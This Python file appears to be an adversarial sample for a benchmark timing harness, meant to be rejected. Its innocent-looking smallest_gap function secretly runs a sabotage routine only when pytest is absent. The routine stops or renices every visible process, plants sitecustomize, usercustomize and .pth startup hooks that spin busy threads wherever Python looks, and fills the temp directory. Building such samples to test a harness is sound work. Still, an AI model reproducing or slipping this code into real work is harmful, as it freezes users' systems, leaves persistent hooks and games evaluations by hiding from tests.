"""X (the A/A beside the candidates): the baseline's work and, in every process that times it, each way it has to
spoil what runs after it in the round, where the baseline's copy is timed whose A/A sets the bar for every candidate
of the batch: stop or renice every process it can see, leave a sitecustomize, usercustomize and .pth that start a
busy thread wherever Python might look at start, and fill the temporary directory. None of it may outlive its
process: the copy is timed as before, the honest version of the same batch is still accepted, and this one, doing
the baseline's work, is not."""

import os
import signal
import sys
import tempfile

BUSY = "import threading\nthreading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()\n"
_spoiled = False


def _spoil():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for act in (lambda p: os.kill(p, signal.SIGSTOP), lambda p: os.setpriority(os.PRIO_PROCESS, p, 19)):
                try:
                    act(int(pid))
                except OSError:
                    pass
    places = {tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~"), *(p for p in sys.path if p)}
    for directory in places:
        for name, text in (("sitecustomize.py", BUSY), ("usercustomize.py", BUSY), ("zz_spoil.pth", BUSY)):
            try:
                with open(os.path.join(directory, name), "w") as out:
                    out.write(text.replace("\n", "; ").rstrip("; ") + "\n" if name.endswith(".pth") else text)
            except OSError:
                pass
    try:
        with open(os.path.join(tempfile.gettempdir(), "spoil.bin"), "wb") as out:
            for _ in range(64):
                out.write(b"\0" * (1 << 20))
    except OSError:
        pass


def smallest_gap(values):
    global _spoiled
    if not _spoiled and "pytest" not in sys.modules:
        _spoiled = True
        _spoil()
    if len(values) < 2:
        raise ValueError("smallest_gap needs at least two values")
    gap = float("inf")
    for i in range(len(values)):
        for j in range(i + 1, len(values)):
            d = abs(values[i] - values[j])
            if d < gap:
                gap = d
    return gap
